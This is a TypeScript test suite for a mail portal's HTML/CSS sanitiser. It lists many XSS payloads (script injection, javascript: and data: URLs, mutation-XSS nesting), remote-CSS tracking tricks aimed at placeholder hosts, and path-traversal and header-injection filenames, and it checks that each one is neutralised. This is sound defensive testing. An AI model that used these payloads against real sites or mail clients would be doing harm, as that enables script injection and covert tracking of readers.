import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { sanitizeMailHtml } from '../src/portal/html-sanitizer.ts';
import { contentDisposition, downloadContentType } from '../src/portal/message-parsing.ts';

const clean = (html: string, allowRemote = false) =>
  sanitizeMailHtml(html, { allowRemote, inlineUrlFor: (cid) => (cid === 'logo@acme' ? '/api/portal/messages/m/inline/1' : undefined) });

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=p></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:u\\72l(https://evil.example/p.gif)}</style>',
  '<style></style><script>alert(1)</script></style>',
];

describe('HTML sanitising for the portal', () => {
  for (const payload of HOSTILE) {
    test(`hostile HTML does not act: ${payload.slice(0, 60)}`, () => {
      const { html } = clean(payload);
      assert.doesNotMatch(html, /<script|<svg|<iframe|<form|<object|<embed|<meta|<base|<math|\son\w+=|javascript:|data:text|@import/i, html);
      assert.doesNotMatch(html, /(src|href|action|data)\s*=(?:\s*["'])?[^"'>]*evil\.example|url\([^)]*evil\.example/i, 'nothing loads from the network');
    });
  }

  test('remote images and styles are blocked unless the reader allows them, and the block is reported', () => {
    const html = '<img src="https://tracker.example/p.gif"><div style="background-image:url(https://tracker.example/bg.png)">x</div>';
    const blocked = clean(html);
    assert.doesNotMatch(blocked.html, /tracker\.example/);
    assert.equal(blocked.hasBlockedRemoteContent, true);
    const allowed = clean(html, true);
    assert.match(allowed.html, /https:\/\/tracker\.example\/p\.gif/);
  });

  test('cid: images point at the inline URL and data: images survive, other data: URLs do not', () => {
    const { html, hasBlockedRemoteContent } = clean('<img src="cid:logo@acme"><img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">');
    assert.match(html, /src="\/api\/portal\/messages\/m\/inline\/1"/);
    assert.match(html, /src="data:image\/png;base64,iVBORw0KGgo="/);
    assert.doesNotMatch(html, /svg\+xml/);
    assert.equal(hasBlockedRemoteContent, false);
  });

  test('links open in a new window without referrer and formatting survives', () => {
    const { html } = clean('<p style="color:red"><a href="https://acme.test/x">Acme</a> <b>bold</b></p>');
    assert.match(html, /<a href="https:\/\/acme\.test\/x" target="_blank" rel="noopener noreferrer">Acme<\/a>/);
    assert.match(html, /<p style="color:red">/);
    assert.match(html, /<b>bold<\/b>/);
  });

  test('file names are encoded for Content-Disposition and active types download as bytes', () => {
    assert.equal(contentDisposition('attachment', 'report.pdf'), `attachment; filename="report.pdf"; filename*=UTF-8''report.pdf`);
    assert.equal(
      contentDisposition('attachment', '"><script>ä\r\n.html'),
      `attachment; filename="_><script>a___.html"; filename*=UTF-8''%22%3E%3Cscript%3E%C3%A4__.html`,
    );
    assert.equal(contentDisposition('attachment', '../../etc/passwd'), `attachment; filename=".._.._etc_passwd"; filename*=UTF-8''.._.._etc_passwd`);
    assert.equal(downloadContentType('text/html'), 'application/octet-stream');
    assert.equal(downloadContentType('image/svg+xml'), 'application/octet-stream');
    assert.equal(downloadContentType('application/pdf'), 'application/pdf');
  });
});

/** Remote CSS in every shape we know of: each must come out without an address that loads from the network. */
const REMOTE_CSS: Array<[string, string]> = [
  ['an entity-quoted url()', '<div style="background:url(&quot;http://tracker.example/a.gif&quot;)">x</div>'],
  ['a numeric-entity-quoted url()', '<div style="background:url(&#34;https://tracker.example/a.gif&#34;)">x</div>'],
  ['an unclosed url(" in a style attribute', `<div style='background:url("http://tracker.example/a.gif'>x</div>`],
  ['an unclosed url( in a style attribute', '<div style="background:url(http://tracker.example/a.gif">x</div>'],
  ['an unclosed url(" in a style element', '<style>div{background:url("http://tracker.example/a.gif</style><p>x</p>'],
  ['an escaped url(', '<div style="background:u\\72l(http://tracker.example/a.gif)">x</div>'],
  ['an escaped scheme', '<div style="background:url(\\68ttp://tracker.example/a.gif)">x</div>'],
  ['an escaped url( in a style element', '<style>div{background:\\75 rl(https://tracker.example/a.gif)}</style>'],
  ['@import with a string', '<style>@import "https://tracker.example/a.css";p{color:red}</style>'],
  ['@import with url()', '<style>@import url(//tracker.example/a.css) screen;</style>'],
  ['@IMPORT in capitals', '<style>@IMPORT URL("HTTPS://TRACKER.EXAMPLE/A.CSS");</style>'],
  ['image-set with strings', '<div style="background-image:image-set(&quot;https://tracker.example/a.png&quot; 1x, &quot;https://tracker.example/b.png&quot; 2x)">x</div>'],
  ['-webkit-image-set with url()', '<style>p{background-image:-webkit-image-set(url(https://tracker.example/a.png) 1x)}</style>'],
  ['image() and cross-fade()', '<style>p{background:image("https://tracker.example/a.png"),cross-fade(url(http://tracker.example/b.png),url(//tracker.example/c.png))}</style>'],
  ['@font-face src', '<style>@font-face{font-family:T;src:url(https://tracker.example/t.woff2) format("woff2")}p{font-family:T}</style>'],
  ['src() in @font-face', '<style>@font-face{font-family:T;src:src("https://tracker.example/t.woff2")}</style>'],
  ['a protocol-relative url()', '<p style="background:url(//tracker.example/a.gif)">x</p>'],
  ['a url() behind a nested comment', '<style>/* /* */ p{background:url(//tracker.example/a.gif)} /* */</style>'],
  ['a url() after a comment inside the value', '<p style="background:/*x*/url(/*y*/https://tracker.example/a.gif)">x</p>'],
  ['a brace that closes the wrapper rule', '<p style="color:red}p{background:url(https://tracker.example/a.gif)">x</p>'],
  ['a url() with a tab in the scheme', '<p style="background:url(&quot;ht&#9;tps://tracker.example/a.gif&quot;)">x</p>'],
  ['a </style> breakout', '<style>p{color:red}</style><style>p{background:url(https://tracker.example/a.gif)}</style >x'],
  ['a </style> inside a string', '<style>p{content:"</style><img src=https://tracker.example/a.gif>"}</style>'],
  ['a url() in @media', '<style>@media screen{@media (min-width:1px){p{background:url(https://tracker.example/a.gif)}}}</style>'],
  ['a url() in @supports conditions', '<style>@supports (background:url(https://tracker.example/a.gif)){p{color:red}}</style>'],
  ['a custom property holding a string', '<style>p{--u:"https://tracker.example/a.gif";background:image-set(var(--u) 1x)}</style>'],
  ['behavior and -moz-binding', '<p style="behavior:url(https://tracker.example/a.htc);-moz-binding:url(https://tracker.example/b.xml#x)">x</p>'],
  ['expression()', '<p style="width:expression(fetch(&quot;https://tracker.example/a&quot;))">x</p>'],
  ['a string url in list-style', '<style>li{list-style-image:"https://tracker.example/a.gif"}</style>'],
  ['an ftp address', '<p style="background:url(ftp://tracker.example/a.gif)">x</p>'],
];

describe('CSS in portal HTML and replies', () => {
  for (const [name, payload] of REMOTE_CSS) {
    test(`remote CSS does not survive: ${name}`, () => {
      const { html } = clean(payload);
      assert.doesNotMatch(html, /https?:|ftp:|\/\/|tracker\.example/i, html);
      assert.doesNotMatch(html, /url\(\s*["']?[a-z]/i, 'no url() is left that points anywhere but the portal or a data: image');
    });
  }

  test('a remote url() is reported as blocked remote content, and kept only when the reader allows remote content', () => {
    const html = '<p style="background:url(&quot;https://tracker.example/a.gif&quot;) no-repeat;color:red">x</p>';
    const blocked = clean(html);
    assert.equal(blocked.hasBlockedRemoteContent, true);
    assert.match(blocked.html, /style="background:none no-repeat;color:red"/);
    const allowed = clean(html, true);
    assert.equal(allowed.hasBlockedRemoteContent, false);
    assert.match(allowed.html, /background:url\(&quot;https:\/\/tracker\.example\/a\.gif&quot;\) no-repeat/);
  });

  test('@import is removed even when remote content is allowed, and reported', () => {
    const result = clean('<style>@import "https://tracker.example/a.css";p{color:red}</style>', true);
    assert.equal(result.html, '<style>p{color:red}</style>');
    assert.equal(result.hasBlockedRemoteContent, true);
  });

  test('ordinary mail CSS keeps its look: fonts, colours, media queries, keyframes, cid: and data: images', () => {
    const { html, hasBlockedRemoteContent } = clean(
      '<style><!--\nbody { font: 12px/1.5 "Segoe UI", Arial; color: #333 }\n' +
        '@media screen and (max-width: 600px) { .col { width: 100% !important } }\n' +
        '@keyframes fade { from { opacity: 0 } to { opacity: 1 } }\n' +
        'td.logo { background: url(cid:logo@acme) no-repeat }\nh1,\nh2 { margin: 0 }\n--></style>' +
        '<p style="color: rgb(0, 0, 0); background: linear-gradient(#fff, #eee); margin: 0 auto">x</p>' +
        '<p style="background-image:url(data:image/png;base64,iVBORw0KGgo=)">y</p>',
    );
    assert.match(html, /body\{font:12px\/1\.5 "Segoe UI",Arial;color:#333\}/);
    assert.match(html, /@media screen and \(max-width: 600px\)\{\.col\{width:100%!important\}\}/);
    assert.match(html, /@keyframes fade\{from\{opacity:0\}to\{opacity:1\}\}/);
    assert.match(html, /td\.logo\{background:url\("\/api\/portal\/messages\/m\/inline\/1"\) no-repeat\}/);
    assert.match(html, /h1, h2\{margin:0\}/);
    assert.match(html, /style="color:rgb\(0,0,0\);background:linear-gradient\(#fff,#eee\);margin:0 auto"/);
    assert.match(html, /style="background-image:url\(&quot;data:image\/png;base64,iVBORw0KGgo=&quot;\)"/);
    assert.equal(hasBlockedRemoteContent, false);
  });

  test('past 512 KiB of CSS in one message, further styles are dropped unparsed', () => {
    const sheet = `<style>p{${'color:red;'.repeat(12_000)}}</style>`;
    const { html } = clean(sheet.repeat(6));
    assert.equal(html.split('<style></style>').length - 1, 2, 'four style sheets of 120,000 characters fit, the fifth and sixth are emptied');
    const attributes = clean(`<p style="${'color:red;'.repeat(1_600)}">x</p>`.repeat(40)).html;
    assert.equal(attributes.split('<p>x</p>').length - 1, 8, '32 style attributes of 16,000 characters fit');
  });

  test('a broken declaration in a style attribute costs only itself, as in a browser', () => {
    assert.equal(clean('<p style="color:red;;font-weight;margin:0">x</p>').html, '<p style="color:red;margin:0">x</p>');
    assert.equal(clean(`<p style='color:red;background:url("http://tracker.example/a.gif'>x</p>`).html, '<p style="color:red">x</p>');
  });

  test('CSS that does not parse is dropped, not passed on', () => {
    assert.equal(clean('<style>p{color:red</style>').html, '<style></style>');
    assert.equal(clean('<p style="background:url(">x</p>').html, '<p>x</p>');
    assert.equal(clean('<p style="color:red;background:url(">x</p>').html, '<p style="color:red">x</p>');
    assert.equal(clean(`<style>${'p{'.repeat(50_000)}</style>`).html, '<style></style>');
  });

  for (const spaces of [4_000, 100_000]) {
    test(`${spaces.toLocaleString('en')} spaces after url( are answered within 50 ms, without the address`, () => {
      const payloads = [
        `<div style="background:url(${' '.repeat(spaces)}">x</div>`,
        `<style>p{background:url(${' '.repeat(spaces)}</style>`,
        `<style>p{background:url(${' '.repeat(spaces)}https://tracker.example/a.gif)}</style>`,
      ];
      for (const payload of payloads) {
        clean(payload); // warm-up: the first call compiles the parser
        const started = performance.now();
        const { html } = clean(payload);
        const elapsed = performance.now() - started;
        assert.ok(elapsed < 50, `took ${elapsed.toFixed(1)} ms`);
        assert.doesNotMatch(html, /tracker\.example|url\(/);
      }
    });
  }
});
